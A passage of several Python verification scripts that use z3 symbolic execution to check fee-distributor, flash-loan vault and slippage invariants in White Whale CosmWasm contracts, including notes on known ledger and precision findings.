    dirs = [(0, 1), (0, 2), (1, 0), (1, 2), (2, 0), (2, 1)]
    for oi, ai in dirs: trio_swap(ck, prog, kinds, oi, ai)
    trio_collect(ck, prog, kinds)
    if ck.tier == 'thorough': trio_collect(ck, prog, ('cw20', 'cw20', 'native'))
    trio_other(ck, prog, kinds)
    ck.bounds['trio'] = 'three-asset pool: native/native/cw20, all six swap directions against a symbolic SwapComputation; instantiate of pair / trio / vault with native and cw20 assets'
