"""C09 — fee distributor: epoch ledgers balance and no epoch is paid twice."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_dist import *


def asset_amount(lst, denom):
    for info_, amt in lst:
        if same(info_.fields[0], denom): return amt
    return 0


def claim_step(ck, prog, nepochs, nassets, cursor, claimed_shape='full', expired=0):
    def body(it):
        st = setup_dist(it, nepochs, nassets, cursor=cursor, claimed_shape=claimed_shape, expired=expired)
        it.extra = dict(st=st)
        return enter(it, 'fee_distributor', 'execute', mk_env(it, it.ctx.sym('now', 64)), mk_info('alice', []), it.mkv(FX, 'Claim'))
    tag = 'claim.e%d.a%d.%s.%s%s' % (nepochs, nassets, cursor, claimed_shape, '.expired%d' % expired if expired else '')
    paths = ck.explore(prog, body, tag)
    nok = 0
    for p in paths:
        ck.sample(dict(entry='fee_distributor.execute(claim)', epochs=nepochs, assets=nassets, cursor=cursor, outcome=p.short()))
        if not p.ok:
            continue
        nok += 1
        st = p.extra['st']; eps = st['eps']; g = st['grace']; cur = st['cursor']
        post = epochs_after(p)
        eff = effects(resp_of(p), DIST)
        ck.oblige('C09.claim.recipient.' + tag, p, any(not (e.kind == 'send' and same(e.dst, 'alice')) for e in eff), 'payouts go to the claimer only')
        if cursor == 'none_never':
            ck.oblige('C09.claim.never_bonded.' + tag, p, True, 'an address that never bonded cannot claim')
            continue
        newest_changed = None
        for j in range(nassets):
            paid = total(eff, 'send', ASSETS[j]); dec = 0
            for k, e in enumerate(eps):
                pv = post[k][1]
                av2 = asset_amount(amounts(pv, 3), ASSETS[j]); cl2 = asset_amount(amounts(pv, 4), ASSETS[j]); tot2 = asset_amount(amounts(pv, 2), ASSETS[j])
                dec = dec + (e['av'][j] - av2)
                if k < expired:
                    ck.oblige('C09.claim.expired_untouched.%s.e%d.a%d' % (tag, k, j), p, z3.Or(av2 != 0, cl2 != e['cl'][j], tot2 != e['tot'][j]),
                              'an epoch whose remainder was already rolled over is never paid from again')
                    continue
                region2 = nassets > 1 and j > 0     # the second asset of a two-asset epoch: known defect carve-out below
                if region2:
                    known = z3.And(e['av'][j] != av2, cl2 == e['cl'][j], tot2 == e['tot'][j], av2 >= 0)      # exactly: available reduced, claimed not updated
                    ck.oblige('C09.claim.ledger.second_asset.%s.e%d' % (tag, k), p, known,
                              'claimed + available = total breaks for an asset that is not yet in a non-empty `claimed` list', site='claimed list only updated for assets already present')
                    ck.oblige('C09.claim.ledger.%s.e%d.a%d' % (tag, k, j), p, z3.And(z3.Not(known), z3.Or(cl2 + av2 != e['tot'][j], tot2 != e['tot'][j], av2 < 0)), 'claimed + available = total')
                else:
                    ck.oblige('C09.claim.ledger.%s.e%d.a%d' % (tag, k, j), p, z3.Or(cl2 + av2 != e['tot'][j], tot2 != e['tot'][j], av2 < 0), 'claimed + available = total (total unchanged)')
                in_window = k >= nepochs - g if not is_sym(g) else (k >= nepochs - g)
                ck.oblige('C09.claim.window.%s.e%d.a%d' % (tag, k, j), p, z3.And(av2 != e['av'][j], z3.Or(z3.Not(in_window), e['id'] <= cur)),
                          'only epochs inside the grace window and newer than the cursor / first bonded epoch are paid')
                R = z3.Int('R_spec_%d_%d' % (k, j))
                ck.oblige('C09.claim.reward.%s.e%d.a%d' % (tag, k, j), p, z3.And(av2 != e['av'][j], e['av'][j] - av2 != R), 'the reward is floor(total * share)',
                          lemmas=[R * E18 <= e['tot'][j] * e['share'], (R + 1) * E18 > e['tot'][j] * e['share']])
            ck.oblige('C09.claim.payout_eq_decrease.%s.a%d' % (tag, j), p, paid != dec, 'payout equals the decrease of the epochs\' available ledgers')
            ck.oblige('C09.claim.balance_covers.%s.a%d' % (tag, j), p, st['bal'][j] - paid < sum(asset_amount(amounts(post[k][1], 3), ASSETS[j]) for k in range(nepochs)),
                      'the distributor still holds at least the sum of all available amounts')
        # cursor moves to the newest claimable epoch id, which is the newest epoch overall
        lc = p.world.storage['last_claimed_epoch'].entries
        newc = lc[0][1].fields[0] if lc else None
        ck.oblige('C09.claim.cursor.' + tag, p, True if newc is None else z3.Or(*[z3.And(newc == e['id'], z3.Or(e['id'] <= cur, k < nepochs - g)) for k, e in enumerate(eps)]) if True else False,
                  'the cursor moves to an epoch id that was claimable')
        ck.oblige('C09.claim.cursor_newest.' + tag, p, True if newc is None else z3.And(eps[-1]['av'][0] > 0, newc != eps[-1]['id']) if nassets == 1 else False,
                  'after a claim the cursor is the newest epoch (when that epoch had anything available)')
    return nok


def claim_twice(ck, prog, nepochs):
    def body(it):
        st = setup_dist(it, nepochs, 1, cursor='some')
        env = mk_env(it, it.ctx.sym('now', 64))
        r1 = enter(it, 'fee_distributor', 'execute', env, mk_info('alice', []), it.mkv(FX, 'Claim'))
        if r1.variant != 'Ok': raise PathPruned()
        # the payout leaves the distributor's balance
        paid = total(effects(r1.fields[0], DIST), 'send', ASSETS[0])
        it.world.bank = [(a, d, x - paid if same(d, ASSETS[0]) else x) for a, d, x in it.world.bank]
        it.extra = dict(st=st)
        return enter(it, 'fee_distributor', 'execute', env, mk_info('alice', []), it.mkv(FX, 'Claim'))
    n = 0
    for p in ck.explore(prog, body, 'claim_twice.e%d' % nepochs):
        n += 1
        ck.oblige('C09.claim.twice.e%d' % nepochs, p, p.ok, 'an address is paid at most once per epoch: a second claim right away is rejected')
    ck.require(n >= 1, 'claim twice: no path reached the second claim')


def reply_step(ck, prog, nepochs, nassets=1, expired=0, empty_at=None):
    def body(it):
        c = it.ctx
        st = setup_dist(it, nepochs, nassets, cursor='some', expired=expired, empty_at=empty_at)
        T = c.sym('forwarded', 128); c.assume(T < 2**120)
        newid = c.sym('new_id', 64); c.assume(newid > st['base'] + nepochs)
        ne = it.mk(FD + 'Epoch', id=U64(newid), start_time=TS(c.sym('new_start', 64)), total=VecV([nasset(it, ASSETS[0], T)]), available=VecV([nasset(it, ASSETS[0], T)]),
                   claimed=VecV([]), global_index=it.mk(WL + 'GlobalIndex', bonded_amount=U128(0), bonded_assets=VecV([]), timestamp=TS(0), weight=U128(0)))
        gi = gindex(it, 'live', c)
        it.world.smart_table.append((BONDING, it.mkv(WL + 'QueryMsg', 'GlobalIndex'), gi))
        data = Agg('cosmwasm_std::Binary', [Opaque('exec_data', it.mk('white_whale_std::fee_collector::ForwardFeesResponse', epoch=ne))])
        rep = Agg('cosmwasm_std::Reply', [1, Enum('cosmwasm_std::SubMsgResult', 'Ok', [Agg('cosmwasm_std::SubMsgResponse', [VecV([]), SOME(data)])])])
        it.extra = dict(st=st, T=T, newid=newid)
        return enter(it, 'fee_distributor', 'reply', mk_env(it, c.sym('now', 64)), None, rep)
    tag = 'reply.e%d.a%d%s%s' % (nepochs, nassets, '.expired%d' % expired if expired else '', '.empty%d' % empty_at if empty_at is not None else '')
    n = 0
    for p in ck.explore(prog, body, tag):
        ck.sample(dict(entry='fee_distributor.reply(new epoch)', epochs=nepochs, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; eps = st['eps']; g = st['grace']; T = p.extra['T']
        post = epochs_after(p)
        new = [v for i, v in post if True][nepochs:]      # entries appended after the pre-existing ones
        ck.oblige('C09.reply.one_new_epoch.' + tag, p, len(new) != 1, 'exactly one epoch is added')
        if len(new) != 1: continue
        nv = new[0]
        ck.oblige('C20.dist.reply.stores_id.' + tag, p, z3.Or(post[nepochs][0] != p.extra['newid'], nv.fields[0].fields[0] != p.extra['newid']), 'the new epoch is stored under its own id')
        full = g <= nepochs            # the window is full: one epoch expires
        for j in range(nassets):
            exp_av = sum(z3.If(z3.And(full, nepochs - g == k), e['av'][j], 0) for k, e in enumerate(eps))
            fw = T if j == 0 else 0
            ntot = asset_amount(amounts(nv, 2), ASSETS[j]); nav = asset_amount(amounts(nv, 3), ASSETS[j])
            ck.oblige('C09.reply.rollover.%s.a%d' % (tag, j), p, z3.Or(ntot != fw + exp_av, nav != fw + exp_av), 'new total = forwarded fees + the expiring epoch\'s unclaimed remainder, once')
            for k, e in enumerate(eps):
                av2 = asset_amount(amounts(post[k][1], 3), ASSETS[j]); tot2 = asset_amount(amounts(post[k][1], 2), ASSETS[j]); cl2 = asset_amount(amounts(post[k][1], 4), ASSETS[j])
                expiring = z3.And(full, nepochs - g == k)
                ck.oblige('C09.reply.expiring_cleared.%s.e%d.a%d' % (tag, k, j), p, z3.And(expiring, av2 != 0), 'the expiring epoch\'s available becomes empty')
                ck.oblige('C09.reply.others_untouched.%s.e%d.a%d' % (tag, k, j), p, z3.And(z3.Not(expiring), z3.Or(av2 != e['av'][j], tot2 != e['tot'][j], cl2 != e['cl'][j])), 'no other epoch changes')
        ck.oblige('C09.reply.claimed_empty.' + tag, p, len(nv.fields[4].items) != 0, 'the new epoch starts with nothing claimed')
    ck.require(n >= 1, tag + ': no Ok path')


def main():
    ck = Check('C09')
    prog = ck.program('fee_distributor', 'white_whale_std')
    nok = 0
    nok += claim_step(ck, prog, 3, 1, 'some')
    nok += claim_step(ck, prog, 2, 1, 'none_bonded')
    claim_step(ck, prog, 2, 1, 'none_never')
    nok2 = claim_step(ck, prog, 2, 2, 'some', 'first_only')
    claim_step(ck, prog, 3, 1, 'some', expired=1)
    if ck.tier == 'thorough':
        claim_step(ck, prog, 4, 1, 'some'); claim_step(ck, prog, 2, 2, 'some', 'full'); claim_step(ck, prog, 2, 2, 'some', 'empty')
    ck.require(nok >= 2 and nok2 >= 1, 'claim: missing Ok paths')
    claim_twice(ck, prog, 2)
    reply_step(ck, prog, 3); reply_step(ck, prog, 2, 2)
    reply_step(ck, prog, 3, 1, empty_at=1); reply_step(ck, prog, 3, 1, empty_at=2)      # a zero-fee epoch sits in the window while an older one expires
    reply_step(ck, prog, 3, 1, expired=1)      # an already-expired epoch is back in the window (grace period was increased)
    ck.bounds.update(epochs='2..3 stored epochs (thorough 4) with consecutive ids from a symbolic base, 1..2 assets each', grace='grace period symbolic in [1,30] (the window arithmetic forks on it)',
                     widths='totals/available full range below 2^120, shares any Decimal <= 1', cursor='cursor symbolic / absent with or without bonding history')
    ck.outside += ['more than 4 epochs in the window (same loop, more unrolling)', 'how the bonding contract computes shares (arbitrary share <= 1 per epoch)']
    ck.assumptions.append('Inv: claimed + available = total per stored epoch and asset; distributor balance >= sum of available; two-asset epochs arise when the distribution asset is changed')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
