"""C05 — flash-loan vault: depositor share price never decreases."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_vault import *


def deposit_step(ck, prog, kind, first):
    k = kind[0]
    paths = ck.explore(prog, deposit_body(kind, first), 'deposit.%s.%s' % (k, 'first' if first else 'next'))
    nok = 0
    A = ASSET_NAME[kind]
    for p in paths:
        ck.sample(dict(entry='vault.execute(deposit)', kind=kind, first=first, outcome=p.short()))
        if not p.ok: continue
        nok += 1
        st = p.extra['st']; amt = p.extra['amount']; B, F, S = st['B'], st['F'], st['S']
        eff = effects(resp_of(p), VAULT)
        mints = [e for e in eff if e.kind == 'mint']; pulls = [e for e in eff if e.kind == 'pull']
        other = [e for e in eff if e.kind not in ('mint', 'pull')]
        ck.oblige('C05.deposit.no_outflow.%s' % k, p, len(other) != 0, 'a deposit sends nothing out')
        if kind == 'native':
            ck.oblige('C05.deposit.received.n', p, z3.Int('attached') != amt, 'accepted only when the attached funds equal the stated amount')
            ck.oblige('C05.deposit.pulls.n', p, len(pulls) != 0, 'no TransferFrom for a native vault')
            Bb = B - amt
        else:
            okp = len(pulls) == 1 and same(pulls[0].asset, A) and same(pulls[0].src, 'depositor') and same(pulls[0].dst, VAULT)
            ck.oblige('C05.deposit.received.c', p, (not okp) or z3.Or(pulls[0].amount != amt, z3.Int('allowance') < amt),
                      'cw20 deposit pulled by TransferFrom(depositor -> vault) of exactly the amount, covered by the allowance')
            Bb = B
        if first:
            shape = len(mints) == 2 and same(mints[0].dst, VAULT) and same(mints[1].dst, 'depositor') and all(same(m.asset, VLP) for m in mints)
            ck.oblige('C05.deposit.first.%s' % k, p, (not shape) or z3.Or(mints[0].amount != 1000, mints[1].amount != amt - 1000, mints[1].amount <= 0),
                      'first deposit mints amount-1000 > 0 to the depositor and locks 1000 in the vault itself')
        else:
            shape = len(mints) == 1 and same(mints[0].dst, 'depositor') and same(mints[0].asset, VLP)
            ck.oblige('C05.deposit.next.shape.%s' % k, p, not shape, 'one mint, to the depositor')
            if shape:
                lp = mints[0].amount
                ck.oblige('C05.deposit.next.mint.%s' % k, p, lp * (Bb - F) > amt * S, 'minted shares at most pro rata of balance net of pending fees (and of this deposit)')
                ck.oblige('C05.deposit.next.price.%s' % k, p, (Bb + amt - F) * S < (Bb - F) * (S + lp), 'share price does not fall on deposit')
    ck.require(nok >= 1, 'no Ok path for deposit %s' % kind)


def withdraw_step(ck, prog, kind):
    k = kind[0]; A = ASSET_NAME[kind]
    paths = ck.explore(prog, withdraw_body(kind), 'withdraw.' + k)
    nok = 0
    for p in paths:
        ck.sample(dict(entry='vault.execute(receive(withdraw))', kind=kind, outcome=p.short()))
        if not p.ok: continue
        nok += 1
        st = p.extra['st']; amt = p.extra['amount']; B, F, S = st['B'], st['F'], st['S']
        eff = effects(resp_of(p), VAULT)
        W = total(eff, 'send', A)
        burns = [e for e in eff if e.kind == 'burn' and same(e.asset, VLP)]
        rest = [e for e in eff if not (e.kind == 'send' and same(e.asset, A)) and not (e.kind == 'burn' and same(e.asset, VLP))]
        ck.oblige('C05.withdraw.shape.' + k, p, len(rest) != 0 or len(burns) != 1 or any(not same(e.dst, 'holder') for e in eff if e.kind == 'send'),
                  'one payout to the share holder and one LP burn, nothing else')
        if len(burns) == 1: ck.oblige('C05.withdraw.burn.' + k, p, burns[0].amount != amt, 'burns exactly the shares received')
        ck.oblige('C05.withdraw.prorata.' + k, p, W * S > amt * (B - F), 'payout at most pro rata of balance net of pending fees')
        ck.oblige('C05.withdraw.price.' + k, p, (B - W - F) * S < (B - F) * (S - amt), 'share price does not fall on withdrawal')
        ck.oblige('C05.withdraw.solvent.' + k, p, W > B - F, 'payout never touches pending protocol fees')
    ck.require(nok >= 1, 'no Ok path for withdraw %s' % kind)


def collect_step(ck, prog, kind):
    k = kind[0]; A = ASSET_NAME[kind]
    for p in ck.explore(prog, vcollect_body(kind), 'collect.' + k):
        if not p.ok: continue
        st = p.extra['st']; B, F = st['B'], st['F']
        eff = effects(resp_of(p), VAULT)
        out = total(eff, 'send', A) + total(eff, 'burn', A)
        ck.oblige('C05.collect.price.' + k, p, (B - out) - vledger(p, 'collected_protocol_fees') < B - F, 'collecting fees does not lower balance net of pending fees')


def update_fees_step(ck, prog, kind):
    k = kind[0]
    n = 0
    for p in ck.explore(prog, vupdate_fees_body(kind), 'update_fees.' + k):
        if not p.ok: continue
        n += 1
        eff = effects(resp_of(p), VAULT)
        ck.oblige('C05.update_fees.price.' + k, p, z3.Or(vledger(p, 'collected_protocol_fees') != p.extra['st']['F']) if True else False, 'fee change leaves the ledger alone')
        ck.oblige('C05.update_fees.no_msgs.' + k, p, len(eff) != 0, 'fee change moves no funds')
    ck.require(n >= 1, 'no Ok path for update_config(fees)')


def loan_bracket(ck, prog, kind):
    """from the state before flash_loan to the state after a successful after_trade whose old_balance is the balance before the
    loan and whose ledger is the ledger before the loan (no nested loan completed in between): balance net of fees does not fall."""
    k = kind[0]; A = ASSET_NAME[kind]
    n = 0
    for p in ck.explore(prog, after_trade_body(kind), 'after_trade.' + k):
        if not p.ok: continue
        n += 1
        st = p.extra['st']; new, Fcur = st['B'], st['F']; old = p.extra['old']
        eff = effects(resp_of(p), VAULT)
        burned = total(eff, 'burn', A); sent = total(eff, 'send', A)
        F2 = vledger(p, 'collected_protocol_fees')
        # equity after: new - burned - sent - F2 ; equity before the loan: old - Fcur (ledger unchanged during the loan)
        ck.oblige('C05.loan.bracket.price.' + k, p, (new - burned - sent) - F2 < old - Fcur,
                  'a completed flash loan leaves at least the pre-loan balance net of pending fees (supply cannot grow during a loan)')
    ck.require(n >= 1, 'no Ok path for after_trade')


def loan_bracket2(ck, prog, kind):
    """two real steps: flash_loan, then (after the borrower did anything, i.e. an arbitrary balance) the AfterTrade message that
    flash_loan itself emitted.  Balance net of pending fees must not end below its value before the loan."""
    k = kind[0]; A = ASSET_NAME[kind]
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind, counter=0)
        loan = c.sym('loan', 128); c.assume(st['F'] <= st['B']); c.assume(loan <= st['B'])
        c.assume(st['at'] + loan < 2**128); c.assume(st['ab'] + loan < 2**128); c.assume(st['F'] + loan < 2**128)
        env = mk_env(it, 10**18)
        r = enter(it, 'vault', 'execute', env, mk_info('borrower', []), it.mkv(VX, 'FlashLoan', amount=U128(loan), msg=BIN(Str('x'))))
        if r.variant != 'Ok': raise PathPruned()
        cb = [e for e in effects(r.fields[0], VAULT) if e.kind == 'call' and same(e.asset, VAULT)][0].msg
        newb = c.sym('balance_after_callback', 128)
        if kind == 'native': it.world.bank = [(a, d, newb) for a, d, x in it.world.bank]
        else: it.world.cw20 = [(t, h, newb) for t, h, x in it.world.cw20]
        it.extra = dict(st=st, newb=newb)
        return enter(it, 'vault', 'execute', env, mk_info(VAULT, []), cb)
    n = 0
    for p in ck.explore(prog, body, 'loan_bracket2.' + k):
        if not p.ok: continue
        n += 1
        st = p.extra['st']; newb = p.extra['newb']
        eff = effects(resp_of(p), VAULT)
        out = total(eff, 'burn', A) + total(eff, 'send', A)
        ck.oblige('C05.loan.bracket2.price.' + k, p, (newb - out) - vledger(p, 'collected_protocol_fees') < st['B'] - st['F'],
                  'flash_loan followed by its own AfterTrade (anything in between): balance net of pending fees does not fall')
    ck.require(n >= 1, 'loan_bracket2: no Ok path')


def roundtrip(ck, prog, kind):
    k = kind[0]; A = ASSET_NAME[kind]
    def body(it):
        r1 = deposit_body(kind, first=False)(it)
        if r1.variant != 'Ok': raise PathPruned()
        st = it.extra['st']; amt = it.extra['amount']
        lp = [e for e in effects(r1.fields[0], VAULT) if e.kind == 'mint'][0].amount
        w = it.world
        if kind == 'cw20': w.cw20 = [(t, h, (a + amt) if same(h, VAULT) else a) for t, h, a in w.cw20]
        w.cw20_info[VLP]['total_supply'] = st['S'] + lp
        hook = it.mkv(VN + 'Cw20HookMsg', 'Withdraw')
        msg = it.mkv(VX, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('depositor'), amount=U128(lp), msg=BIN(hook)))
        it.extra['lp'] = lp; it.scenario = None
        return run_entry(it, 'vault::contract::execute', mk_deps(), mk_env(it, 10**18), mk_info(VLP, []), msg)
    for p in ck.explore(prog, body, 'roundtrip.' + k, validate=False):
        if not p.ok: continue
        st = p.extra['st']; amt = p.extra['amount']; lp = p.extra['lp']; B, F, S = st['B'], st['F'], st['S']
        Bb = B - amt if kind == 'native' else B
        W = total(effects(resp_of(p), VAULT), 'send', A)
        ck.oblige('C05.roundtrip.' + k, p, W > amt, 'deposit then withdraw never returns more than was deposited', lemmas=[lp * (Bb - F) <= amt * S])


def main():
    ck = Check('C05')
    prog = ck.program('vault', 'white_whale_std')
    for kind in ('native', 'cw20'):
        deposit_step(ck, prog, kind, True); deposit_step(ck, prog, kind, False)
        withdraw_step(ck, prog, kind); collect_step(ck, prog, kind); loan_bracket(ck, prog, kind); loan_bracket2(ck, prog, kind)
        roundtrip(ck, prog, kind)
    update_fees_step(ck, prog, 'native')
    ck.bounds.update(assets='native and cw20 vault asset, cw20 share token', widths='balance, ledger, supply, amounts full u128; fee shares any valid triple',
                     induction='one step per entry point from any state with pending fees <= balance; flash-loan bracket from flash_loan to a successful after_trade with everything in between arbitrary except the fee ledger')
    ck.outside += ['token-factory share tokens (features off)', 'nested flash loans completing inside a loan: covered by C06 (bounded history)']
    ck.assumptions.append('withdraw hook amount <= share supply; all-time counters < 2^127')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
