"""C15 — slippage limits and minimum-receive are enforced."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_pool import *

AMS = 'white_whale_std::pool_network::swap::assert_max_spread'
HALF = 5 * 10**17; ONEPCT = 10**16


def errmsg(p):
    e = deref(p.value.fields[0])
    while isinstance(e, Enum) and len(e.fields) == 1: e = deref(e.fields[0])
    if isinstance(e, Opaque) and isinstance(e.payload, Str): return e.payload.s or ''
    return ''


def max_spread_checks(ck, prog):
    for has_ms in (True, False):
        for has_bp in (False, True):
            def body(it, has_ms=has_ms, has_bp=has_bp):
                c = it.ctx
                ms = SOME(DEC(c.sym('s', 128))) if has_ms else NONE()
                bp = SOME(DEC(c.sym('p', 128))) if has_bp else NONE()
                return run_entry(it, AMS, bp, ms, U128(c.sym('offer', 128)), U128(c.sym('ret', 128)), U128(c.sym('spread', 128)))
            tag = 'ams.%s.%s' % ('ms' if has_ms else 'default', 'belief' if has_bp else 'nobelief')
            paths = ck.explore(prog, body, tag)
            s, P, off, ret, spread = [z3.Int(n) for n in ('s', 'p', 'offer', 'ret', 'spread')]
            seff = z3.If(s <= HALF, s, HALF) if has_ms else z3.IntVal(ONEPCT)
            kinds = set()
            for p in paths:
                ck.sample(dict(fn='swap::assert_max_spread', max_spread=has_ms, belief=has_bp, outcome=p.short(), err=errmsg(p) if p.err else None))
                kinds.add(p.short().split('(')[0])
                if not has_bp:
                    D = ret + spread
                    if p.ok:
                        # floor18(spread/D) <= s_eff  <=>  spread*1e18 < (s_eff+1)*D
                        ck.oblige('C15.spread.sound.' + tag, p, z3.Not(spread * E18 < (seff + 1) * D),
                                  'Ok => spread/(return+spread) <= min(s or 1%, 50%) at 18-decimal resolution')
                    elif p.err:
                        ck.oblige('C15.spread.complete.' + tag, p, z3.Or(spread * E18 <= seff * D, 'Spread limit' not in errmsg(p)),
                                  'rejected for slippage only when the ratio really exceeds the limit')
                    else:
                        # aborts: zero denominator or u128 overflow of return+spread only
                        ck.oblige('C15.spread.total.' + tag, p, z3.And(D != 0, D < 2**128), 'abort only for return+spread = 0 or > u128')
                else:
                    # true expected return in base units: offer*1e18/P (P = price atomics)
                    if p.ok:
                        # (i) the comparison itself: Ok => return >= E or (E - return)/E <= s_eff at 18-decimal resolution,
                        #     with E the expected return as the code computes it (same hash-consed division terms);
                        # (ii) E is within the precision of Decimal::inv of the true offer/p.
                        inv = p.div(E18 * E18, P)
                        Ecode = p.div(off * inv, E18)
                        ck.oblige('C15.belief.sound.' + tag, p, z3.And(P > 0, ret < Ecode, (Ecode - ret) * E18 >= (seff + 1) * Ecode),
                                  'Ok => return >= E or (E-return)/E <= min(s or 1%, 50%), E = floor(offer*inv(p))')
                        ck.oblige('C15.belief.expected_precision.' + tag, p, z3.And(P > 0, Ecode * P * E18 < off * E18 * E18 - off * P - P * E18),
                                  'E >= offer/p - offer*1e-18 - 1')
                        # tight bound of the property statement: within ONE base unit of (offer/p)(1-s): known finding
                        tight = z3.And(P > 0, (ret + 1) * P * E18 < off * E18 * (E18 - seff))
                        ck.oblige('C15.belief.sound_one_unit.' + tag, p, tight,
                                  'Ok => return >= (offer/p)(1-s) - 1 base unit', site='belief-price precision')
                    elif p.err:
                        m = errmsg(p)
                        if 'Spread limit' in m:
                            ck.oblige('C15.belief.complete.' + tag, p, z3.And(P > 0, ret * P >= off * (E18 - seff)),
                                      'a return of at least (offer/p)(1-s) is never rejected for slippage')
                        else:
                            ck.oblige('C15.belief.zero_price.' + tag, p, P != 0, 'the only other error is a zero belief price')
                    else:
                        inv = p.div(E18 * E18, P)
                        ck.oblige('C15.belief.total.' + tag, p, z3.And(P > 0, p.div(off * inv, E18) < 2**128),
                                  'abort only when the expected return overflows u128')
            ck.require('Ok' in kinds and 'Err' in kinds, tag + ': expected both Ok and Err paths')
    # cap and default are really used: twin queries
    ck.vac['twin'] = ck.vac.get('twin', 0) + 1


def tolerance_pair(ck, prog):
    AST = 'terraswap_pair::helpers::assert_slippage_tolerance'
    for ptype in ('cp', 'stable'):
        def body(it, ptype=ptype):
            c = it.ctx
            t = c.sym('t', 128); d = [c.sym('d0', 128), c.sym('d1', 128)]; pl = [c.sym('p0', 128), c.sym('p1', 128)]
            amount = c.sym('amount', 128); supply = c.sym('supply', 128)
            pt = it.mkv(PN + 'asset::PairType', 'ConstantProduct') if ptype == 'cp' else it.mkv(PN + 'asset::PairType', 'StableSwap', amp=c.sym('amp', 64))
            pools = Agg('array', [asset(it, 'native', 0, pl[0]), asset(it, 'native', 1, pl[1])])
            return run_entry(it, AST, Ref([SOME(DEC(t))], 0), Ref([Agg('array', [U128(d[0]), U128(d[1])])], 0), Ref([pools], 0), pt,
                             U128(amount), U128(supply))
        paths = ck.explore(prog, body, 'tolerance.pair.' + ptype)
        t, d0, d1, p0, p1, amount, supply = [z3.Int(n) for n in ('t', 'd0', 'd1', 'p0', 'p1', 'amount', 'supply')]
        kinds = set()
        for p in paths:
            kinds.add(p.short())
            ck.sample(dict(fn='pair helpers::assert_slippage_tolerance', pair_type=ptype, outcome=p.short()))
            if p.kind != 'ret': continue
            if ptype == 'cp':
                r01 = p.div(d0 * E18, d1); r10 = p.div(d1 * E18, d0); q01 = p.div(p0 * E18, p1); q10 = p.div(p1 * E18, p0)
                within = z3.And(t <= E18, p.div(r01 * (E18 - t), E18) <= q01, p.div(r10 * (E18 - t), E18) <= q10)
            else:
                pr = p.div((p0 + p1) * E18, supply); dr = p.div((d0 + d1) * E18, amount)
                within = z3.And(t <= E18, p.div(pr * (E18 - t), E18) <= dr)
            if p.ok:
                ck.oblige('C15.tolerance.pair.%s.sound' % ptype, p, z3.Not(within), 'Ok => documented ratio bound holds')
            else:
                ck.oblige('C15.tolerance.pair.%s.complete' % ptype, p, within, 'within the bound => not rejected')
        ck.require('Ok' in kinds and any(k.startswith('Err') for k in kinds), 'tolerance.pair.%s: expected Ok and Err paths' % ptype)
    # no tolerance given => always Ok
    def body_none(it):
        c = it.ctx
        pools = Agg('array', [asset(it, 'native', 0, c.sym('p0', 128)), asset(it, 'native', 1, c.sym('p1', 128))])
        return run_entry(it, AST, Ref([NONE()], 0), Ref([Agg('array', [U128(c.sym('d0', 128)), U128(c.sym('d1', 128))])], 0), Ref([pools], 0),
                         it.mkv(PN + 'asset::PairType', 'ConstantProduct'), U128(c.sym('amount', 128)), U128(c.sym('supply', 128)))
    for p in ck.explore(prog, body_none, 'tolerance.pair.none'):
        ck.oblige('C15.tolerance.pair.none', p, not p.ok, 'no tolerance => no slippage rejection')


def tolerance_trio(ck):
    import lib_trio as LT
    prog3 = ck.program('stableswap_3pool', 'white_whale_std')
    AST = 'stableswap_3pool::helpers::assert_slippage_tolerance'
    def body(it):
        c = it.ctx
        t = c.sym('t', 128); d = [c.sym('d%d' % i, 128) for i in range(3)]; pl = [c.sym('p%d' % i, 128) for i in range(3)]
        pools = Agg('array', [LT.tasset(it, 'native', i, pl[i]) for i in range(3)])
        return run_entry(it, AST, Ref([SOME(DEC(t))], 0), Ref([Agg('array', [U128(x) for x in d])], 0), Ref([pools], 0), U128(c.sym('amount', 128)), U128(c.sym('supply', 128)))
    t, amount, supply = z3.Int('t'), z3.Int('amount'), z3.Int('supply')
    d = [z3.Int('d%d' % i) for i in range(3)]; pl = [z3.Int('p%d' % i) for i in range(3)]
    kinds = set()
    for p in ck.explore(prog3, body, 'tolerance.trio'):
        kinds.add(p.short())
        ck.sample(dict(fn='trio helpers::assert_slippage_tolerance', outcome=p.short()))
        if p.kind != 'ret': continue
        pr = p.div((pl[0] + pl[1] + pl[2]) * E18, supply); dr = p.div((d[0] + d[1] + d[2]) * E18, amount)
        within = z3.And(t <= E18, p.div(pr * (E18 - t), E18) <= dr)
        if p.ok: ck.oblige('C15.tolerance.trio.sound', p, z3.Not(within), 'Ok => (pool total / LP supply) * (1 - t) <= deposit total / minted LP')
        else: ck.oblige('C15.tolerance.trio.complete', p, within, 'within the bound => not rejected')
    ck.require('Ok' in kinds and any(k.startswith('Err') for k in kinds), 'tolerance.trio: expected Ok and Err paths')
    def body_none(it):
        c = it.ctx
        pools = Agg('array', [LT.tasset(it, 'native', i, c.sym('p%d' % i, 128)) for i in range(3)])
        return run_entry(it, AST, Ref([NONE()], 0), Ref([Agg('array', [U128(c.sym('d%d' % i, 128)) for i in range(3)])], 0), Ref([pools], 0), U128(c.sym('amount', 128)), U128(c.sym('supply', 128)))
    for p in ck.explore(prog3, body_none, 'tolerance.trio.none'):
        ck.oblige('C15.tolerance.trio.none', p, not p.ok, 'no tolerance => no slippage rejection')
    # the deposit passes the real deposits, reserves, minted amount and supply to the test
    rec = {}
    def spy(it, a, c):
        it.extra['ast_args'] = [dup(deref(x)) for x in a]
        return it.run(it.prog.get(AST), list(a))
    kindsT = ('native', 'native', 'cw20')
    n = 0
    for p in ck.explore(prog3, LT.tprovide_body(kindsT, slippage=True), 'tolerance.trio.args', stubs=dict(LT.KERNEL_STUBS, **{AST: spy}), validate=False):
        if 'ast_args' not in p.extra: continue
        n += 1
        a = p.extra['ast_args']; st = p.extra['st']; dd = p.extra['d']
